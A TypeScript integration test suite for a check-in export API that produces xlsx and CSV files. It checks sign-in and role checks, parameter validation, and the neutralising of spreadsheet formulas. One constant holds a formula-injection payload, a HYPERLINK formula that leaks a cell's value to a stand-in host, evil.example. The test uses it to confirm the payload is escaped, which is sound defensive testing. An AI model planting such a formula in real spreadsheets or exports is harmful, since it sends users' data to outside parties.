import fs from 'node:fs';
import { ValueType, Workbook } from 'exceljs';
import { startApp, type RunningApp } from '../../bot/app';
import { loadConfig } from '../../bot/platform/config';
import { silentLogger } from '../../bot/platform/logger';
import { readTable } from '../../bot/checkins/spreadsheet/read-table';
import { jsonOf, tempDir } from '../support/processes';

/** GET /api/checkins/export on the real server (in-process, demo data, real SQLite file). */
describe('GET /api/checkins/export', () => {
  let app: RunningApp;
  let dataDir: string;
  const url = (query: string) => `${app.url}/api/checkins/export${query}`;
  const demo = (personId: string) => ({ Authorization: `Demo ${personId}` });
  const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")';

  beforeAll(async () => {
    dataDir = tempDir('renkei-export-');
    const config = loadConfig({ APP_DATA_DIR: dataDir });
    config.port = 0;
    app = await startApp(config, silentLogger);
    // An owner's answer that a spreadsheet would run as a formula if written as typed.
    const outcome = await app.store.checkIns.submit({
      initiativeCode: 'A1-1',
      fiscalYear: 2026,
      quarter: 3,
      progress: INJECTION,
      weather: '晴れ',
      direction: '継続',
      directionReason: '-5 件の遅れを取り戻したため',
      nextActions: '@全区 へ展開',
      kpiActuals: [{ kpiId: 'A1-1-k1', value: -5 }],
      submittedBy: 'p-ward-manager',
      submittedAt: '2026-10-05T10:00:00+09:00',
      revision: 1,
      submissionId: 'test:export:A1-1',
    });
    expect(outcome.outcome).toBe('created');
  });

  afterAll(async () => {
    await app.stop();
    fs.rmSync(dataDir, { recursive: true, force: true });
  });

  it('refuses a caller who is not signed in (401)', async () => {
    const response = await fetch(url('?fy=2026&q=3'));
    expect(response.status).toBe(401);
    expect((await jsonOf(response)).error.code).toBe('Unauthenticated');
  });

  it('refuses staff who are neither PMO nor admin (403), before looking at the parameters', async () => {
    for (const query of ['?fy=2026&q=3', '?fy=abc']) {
      const response = await fetch(url(query), { headers: demo('p-ward-staff') });
      expect(response.status).toBe(403);
      const { error } = await jsonOf(response);
      expect(error.code).toBe('Forbidden');
      expect(error.message).toContain('PMO');
    }
  });

  it.each([
    ['?fy=abc&q=3', '年度'],
    ['?fy=2026', '四半期'],
    ['?fy=2026&q=5', '四半期'],
    ['?fy=1999&q=1', '年度'],
    ['?fy=2026&q=3&format=pdf', 'format'],
  ])('answers bad parameters %s with 400 and a clear message', async (query, word) => {
    const response = await fetch(url(query), { headers: demo('p-pmo') });
    expect(response.status).toBe(400);
    const { error } = await jsonOf(response);
    expect(error.code).toBe('BadRequest');
    expect(error.message).toContain(word);
    expect(error.message).toMatch(/\(.+\)/); // English in parentheses
  });

  it('sends an xlsx attachment with a Japanese file name that exceljs reads back, formulas neutralised', async () => {
    const response = await fetch(url('?fy=2026&q=3'), { headers: demo('p-pmo') });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    const disposition = response.headers.get('content-disposition') ?? '';
    expect(disposition).toMatch(/^attachment; filename="initiatives_FY2026Q3\.xlsx"; filename\*=UTF-8''/);
    expect(decodeURIComponent(disposition.split("UTF-8''")[1])).toBe('施策一覧_R8年度Q3.xlsx');
    const body = Buffer.from(await response.arrayBuffer());
    expect(Number(response.headers.get('content-length'))).toBe(body.length);
    expect([...body.subarray(0, 4)]).toEqual([0x50, 0x4b, 0x03, 0x04]);

    const workbook = new Workbook();
    await workbook.xlsx.load(body as unknown as Parameters<typeof workbook.xlsx.load>[0]);
    const sheet = workbook.getWorksheet('R8年度Q3')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const a11 = sheet.getRow(2);
    expect([a11.getCell(1).value, a11.getCell(2).value]).toEqual(['A1', '1']);
    const progress = a11.getCell(header.indexOf('進捗状況') + 1);
    expect(progress.type).toBe(ValueType.String);
    expect(progress.formula).toBeFalsy();
    expect(progress.value).toBe(`'${INJECTION}`);
    expect(a11.getCell(header.indexOf('方向性理由') + 1).value).toBe("'-5 件の遅れを取り戻したため");
    expect(a11.getCell(header.indexOf('課題・次のアクション') + 1).value).toBe("'@全区 へ展開");
    const actual = a11.getCell(header.indexOf('KPI1実績') + 1);
    expect(actual.type).toBe(ValueType.Number); // a number stays a number, even when negative
    expect(actual.value).toBe(-5);
  });

  it('sends a CSV in UTF-8 with BOM when format=csv, formulas neutralised', async () => {
    const response = await fetch(url('?fy=2026&q=3&format=csv'), { headers: demo('p-admin') });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toContain('filename="initiatives_FY2026Q3.csv"');
    const body = Buffer.from(await response.arrayBuffer());
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = body.subarray(3).toString('utf8');
    expect(text).toContain('\r\n');
    expect(text).toContain(`"'${INJECTION.replace(/"/g, '""')}"`);
    const rows = await readTable(body, 'export.csv');
    const header = rows[0];
    const a11 = rows.find((row) => row[0] === 'A1' && row[1] === '1')!;
    expect(a11[header.indexOf('進捗状況')]).toBe(`'${INJECTION}`);
    expect(a11[header.indexOf('KPI1実績')]).toBe('-5');
    expect(rows.filter((row) => row.length > 1)).toHaveLength(1 + (await app.store.initiatives.list()).length);
  });
});
